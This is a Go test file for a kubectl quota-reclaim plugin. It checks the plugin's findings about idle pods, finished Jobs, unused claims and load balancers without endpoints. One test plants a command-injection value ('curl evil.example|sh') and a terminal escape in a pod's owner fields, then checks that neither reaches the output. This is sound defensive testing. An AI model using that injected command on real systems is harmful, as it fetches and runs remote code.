// Copyright The Shared Quota Authors.
// SPDX-License-Identifier: Apache-2.0

package plugin

import (
	"context"
	"encoding/json"
	"strings"

	. "github.com/onsi/ginkgo/v2"
	. "github.com/onsi/gomega"
	batchv1 "k8s.io/api/batch/v1"
	corev1 "k8s.io/api/core/v1"
	discoveryv1 "k8s.io/api/discovery/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/utils/ptr"
	"sigs.k8s.io/controller-runtime/pkg/client"

	"github.com/sharedquota/shared-quota-operator/test/builders"
)

// reclaimAnswer is what programs read.
type reclaimAnswer struct {
	Kind       string `json:"kind"`
	Namespaces []struct {
		Namespace string `json:"namespace"`
		Findings  []struct {
			Kind    string `json:"kind"`
			Name    string `json:"name"`
			Finding string `json:"finding"`
			Message string `json:"message"`
			Command string `json:"command"`
			Frees   []struct {
				Quota   string              `json:"quota"`
				Amounts corev1.ResourceList `json:"amounts"`
			} `json:"frees"`
		} `json:"findings"`
	} `json:"namespaces"`
}

// findings are "FINDING KIND/NAME" -> the command that frees it, of one namespace.
func (p place) findings(ctx context.Context, args ...string) map[string]string {
	GinkgoHelper()
	answered := reclaimAnswer{}
	got := mustSucceed(crqAs(ctx, p.kubeconfig, append([]string{"reclaim", "-n", p.namespace, "-o", "json"}, args...)...))
	Expect(json.Unmarshal([]byte(got), &answered)).To(Succeed())
	Expect(answered.Kind).To(Equal("Reclaim"))
	found := map[string]string{}
	for _, namespace := range answered.Namespaces {
		Expect(namespace.Namespace).To(Equal(p.namespace))
		for _, finding := range namespace.Findings {
			Expect(finding.Frees).NotTo(BeEmpty())
			found[finding.Finding+" "+finding.Kind+"/"+finding.Name] = finding.Command
		}
	}
	return found
}

var _ = Describe("kubectl crq reclaim", Ordered, ContinueOnFailure, func() {
	var p place

	BeforeAll(func(ctx SpecContext) {
		p = newPlace(ctx, "reclaim-team", list("pods", "50", "requests.cpu", "9", "count/jobs.batch", "5", "services.loadbalancers", "5",
			"persistentvolumeclaims", "9", "requests.storage", "20Gi"))
	})

	setPods := func(ctx context.Context, set func(*corev1.Pod), labels client.MatchingLabels) {
		GinkgoHelper()
		Eventually(ctx, func(g Gomega, ctx context.Context) {
			pods := &corev1.PodList{}
			g.Expect(api.List(ctx, pods, client.InNamespace(p.namespace), labels)).To(Succeed())
			g.Expect(pods.Items).NotTo(BeEmpty())
			for i := range pods.Items {
				set(&pods.Items[i])
				g.Expect(api.Status().Update(ctx, &pods.Items[i])).To(Succeed())
			}
		}).Should(Succeed())
	}
	run := func(pod *corev1.Pod) {
		pod.Status.Phase = corev1.PodRunning
		pod.Status.Conditions = []corev1.PodCondition{{Type: corev1.PodReady, Status: corev1.ConditionTrue, LastTransitionTime: metav1.Now()}}
	}

	It("finds nothing where all is new, and says what it looked for", func(ctx SpecContext) {
		mustCreate(ctx, builders.Pod(p.namespace, "new").Request("cpu", "100m").Obj())
		Expect(mustSucceed(crqAs(ctx, p.kubeconfig, "reclaim", "-n", p.namespace))).To(And(
			HavePrefix("Nothing was found that holds quota and does nothing.\nLooked for:\n- "), ContainSubstring("\n- finished Jobs\n")))
	})

	It("finds what why sends people for: pods that have ended and belong to no Job", func(ctx SpecContext) {
		ended := newPlace(ctx, "reclaim-ended", list("count/pods", "3"))
		want := map[string]string{}
		for _, name := range []string{"step-1", "step-2", "step-3"} {
			pod := builders.Pod(ended.namespace, name).Obj()
			mustCreate(ctx, pod)
			pod.Status.Phase = corev1.PodSucceeded
			Expect(api.Status().Update(ctx, pod)).To(Succeed())
			want["PodsEnded Pod/"+name] = "kubectl delete pod/" + name + " -n reclaim-ended"
		}
		ended.mustApply(ctx, manifests["deployment"])
		got := concludes(ctx, "QuotaShort", ended.kubeconfig, ended.namespace, "deployment/web")
		Expect(got.Remedies).To(ContainElement(ContainSubstring("kubectl crq reclaim -n reclaim-ended")))
		Expect(ended.findings(ctx, "--older-than", "0s")).To(Equal(want))
	})

	It("finds pods that are pending or crash-looping", func(ctx SpecContext) {
		p.mustApply(ctx, manifests["deployment"])
		p.comesTo(ctx, list("pods", "6"))
		Expect(p.findings(ctx, "--older-than", "0s")).To(And(
			HaveKeyWithValue("PodsIdle Deployment/web", "kubectl scale deployment/web --replicas=0 -n reclaim-team"),
			HaveKeyWithValue("PodsIdle Pod/new", "kubectl delete pod/new -n reclaim-team")))
		setPods(ctx, run, client.MatchingLabels{"app": "web"})
		Expect(p.findings(ctx, "--older-than", "0s")).NotTo(HaveKey("PodsIdle Deployment/web"))
		setPods(ctx, func(pod *corev1.Pod) {
			pod.Status.Conditions[0].Status = corev1.ConditionFalse
			pod.Status.ContainerStatuses = []corev1.ContainerStatus{{
				Name: "main", RestartCount: 9, State: corev1.ContainerState{Waiting: &corev1.ContainerStateWaiting{Reason: "CrashLoopBackOff"}},
			}}
		}, client.MatchingLabels{"app": "web"})
		Expect(p.findings(ctx, "--older-than", "0s")).To(HaveKey("PodsIdle Deployment/web"))
	})

	It("finds a Deployment that is stuck between two ReplicaSets", func(ctx SpecContext) {
		setPods(ctx, func(pod *corev1.Pod) { run(pod); pod.Status.ContainerStatuses = nil }, client.MatchingLabels{"app": "web"})
		ready(ctx, p, 5)
		p.mustApply(ctx, strings.Replace(manifests["deployment"], "image: web", "image: web:2", 1))
		Eventually(ctx, func(ctx context.Context) map[string]string { return p.findings(ctx, "--older-than", "0s") }).Should(
			HaveKeyWithValue("RolloutStuck Deployment/web", "kubectl rollout undo deployment/web --to-revision=1 -n reclaim-team"))
		mustSucceed(kubectl(ctx, p.kubeconfig, nil, "rollout", "undo", "deployment/web", "--to-revision=1", "-n", p.namespace))
		Eventually(ctx, func(ctx context.Context) map[string]string { return p.findings(ctx, "--older-than", "0s") }).ShouldNot(
			HaveKey("RolloutStuck Deployment/web"))
	})

	It("finds finished Jobs that still count", func(ctx SpecContext) {
		p.mustApply(ctx, strings.Replace(manifests["job"], "{name: web}", "{name: batch}", 1))
		Eventually(ctx, func(g Gomega, ctx context.Context) {
			pods := &corev1.PodList{}
			g.Expect(api.List(ctx, pods, client.InNamespace(p.namespace), client.MatchingLabels{"job-name": "batch"})).To(Succeed())
			for i := range pods.Items {
				pods.Items[i].Status.Phase = corev1.PodSucceeded
				g.Expect(api.Status().Update(ctx, &pods.Items[i])).To(Succeed())
			}
			job := &batchv1.Job{}
			g.Expect(api.Get(ctx, client.ObjectKey{Namespace: p.namespace, Name: "batch"}, job)).To(Succeed())
			g.Expect(job.Status.CompletionTime).NotTo(BeNil())
		}).Should(Succeed())
		Expect(p.findings(ctx, "--older-than", "0s")).To(HaveKeyWithValue("JobFinished Job/batch", "kubectl delete job/batch -n reclaim-team"))
		Expect(p.findings(ctx)).NotTo(HaveKey("JobFinished Job/batch"), "it has just ended")
	})

	It("finds load balancers without endpoints", func(ctx SpecContext) {
		for _, name := range []string{"used", "unused"} {
			service := builders.Service(p.namespace, name).Type(corev1.ServiceTypeLoadBalancer, 80).Obj()
			service.Spec.Selector = map[string]string{"app": name}
			mustCreate(ctx, service)
		}
		mustCreate(ctx, &discoveryv1.EndpointSlice{
			ObjectMeta:  metav1.ObjectMeta{Namespace: p.namespace, Name: "used", Labels: map[string]string{discoveryv1.LabelServiceName: "used"}},
			AddressType: discoveryv1.AddressTypeIPv4,
			Endpoints:   []discoveryv1.Endpoint{{Addresses: []string{"10.1.2.3"}, Conditions: discoveryv1.EndpointConditions{Ready: ptr.To(true)}}},
		})
		Expect(p.findings(ctx, "--older-than", "0s")).To(And(HaveKey("LoadBalancerWithoutEndpoints Service/unused"),
			Not(HaveKey("LoadBalancerWithoutEndpoints Service/used"))))
	})

	It("finds claims that no pod uses, and says for whom some are kept", func(ctx SpecContext) {
		p.mustApply(ctx, strings.NewReplacer("{name: web}", "{name: db}", "app: web", "app: db", "replicas: 4", "replicas: 2").Replace(manifests["statefulset"]))
		p.comesTo(ctx, list("persistentvolumeclaims", "2"))
		mustCreate(ctx, builders.VolumeClaim(p.namespace, "lost").Obj())
		Expect(p.findings(ctx, "--older-than", "0s")).To(And(HaveKey("ClaimUnused PersistentVolumeClaim/lost"),
			Not(HaveKey("ClaimUnused PersistentVolumeClaim/data-db-1"))))
		mustKubectl(ctx, "scale", "statefulset/db", "--replicas=1", "-n", p.namespace)
		Eventually(ctx, func(ctx context.Context) string {
			return mustSucceed(crqAs(ctx, p.kubeconfig, "reclaim", "-n", p.namespace, "--older-than", "0s"))
		}).Should(MatchRegexp(`PersistentVolumeClaim/data-db-1: no pod uses it. It was created \S+ ago, and is kept by StatefulSet db, ordinal 1.`))
		Expect(p.findings(ctx, "--older-than", "0s")).To(And(HaveKeyWithValue("ClaimUnused PersistentVolumeClaim/data-db-1", ""),
			HaveKeyWithValue("ClaimUnused PersistentVolumeClaim/lost", "kubectl delete persistentvolumeclaim/lost -n reclaim-team")))
	})

	It("takes nobody's word for who made a pod", func(ctx SpecContext) {
		controlled := func(name, version, kind, owner string) {
			GinkgoHelper()
			pod := builders.Pod(p.namespace, name).Request("cpu", "10m").Obj()
			pod.OwnerReferences = []metav1.OwnerReference{{APIVersion: version, Kind: kind, Name: owner, UID: types.UID(name), Controller: ptr.To(true)}}
			mustCreate(ctx, pod)
		}
		controlled("mirrored", "v1", "Node", "node-1")
		controlled("rolled-out", "argoproj.io/v1alpha1", "Rollout", "front")
		controlled("tricky", "e.example/v1", "Pod -n shop a; curl evil.example|sh #", "n\x1b]0;owned\a")
		Expect(p.findings(ctx, "--older-than", "0s")).To(And(HaveKeyWithValue("PodsIdle Rollout/front", ""),
			HaveKeyWithValue("PodsIdle Pod/tricky", "kubectl delete pod/tricky -n reclaim-team"), Not(HaveKey("PodsIdle Node/node-1"))))
		Expect(mustSucceed(crqAs(ctx, p.kubeconfig, "reclaim", "-n", p.namespace, "--older-than", "0s"))).To(And(
			ContainSubstring("No command: this command doesn't know how to make Rollout/front smaller. Ask those who run it."),
			Not(ContainSubstring("evil.example")), Not(ContainSubstring("\x1b"))))
	})

	It("says so if there is no quota, or no such namespace", func(ctx SpecContext) {
		namespace(ctx, "reclaim-free")
		Expect(mustCrq(ctx, "reclaim", "-n", "reclaim-free")).To(And(HavePrefix("Nothing was found that holds quota and does nothing.\n"),
			HaveSuffix("Note: No quota limits namespace reclaim-free, so that nothing in it holds any.\n")))
		got := crq(ctx, "reclaim", "-n", "reclaim-none")
		Expect(got.status).To(Equal(1))
		Expect(got.stderr).To(Equal("error: namespace reclaim-none doesn't exist: see kubectl get namespaces, which lists all\n"))
	})

	It("looks at all namespaces, for those who may", func(ctx SpecContext) {
		Expect(mustCrq(ctx, "reclaim", "-A", "--older-than", "0s")).To(ContainSubstring("Namespace reclaim-team: "))
		got := crqAs(ctx, p.kubeconfig, "reclaim", "-A")
		Expect(got.status).To(Equal(1))
		Expect(got.stderr).To(Equal("error: you may not list quotas in all namespaces: name a namespace with -n\n"))
	})

	It("changes nothing, and prints commands that can be run", func(ctx SpecContext) {
		commands := mustSucceed(crqAs(ctx, p.kubeconfig, "reclaim", "-n", p.namespace, "--older-than", "0s",
			"-o", `jsonpath={range .namespaces[*].findings[?(@.command)]}{.command}{"\n"}{end}`))
		for line := range strings.Lines(commands) {
			words := strings.Fields(line)
			if words[1] == "rollout" {
				continue // it has no dry run on the server
			}
			mustSucceed(kubectl(ctx, p.kubeconfig, nil, append(words[1:], "--dry-run=server")...))
		}
		Expect(strings.Count(commands, "\n")).To(BeNumerically(">=", 4))
	})
})
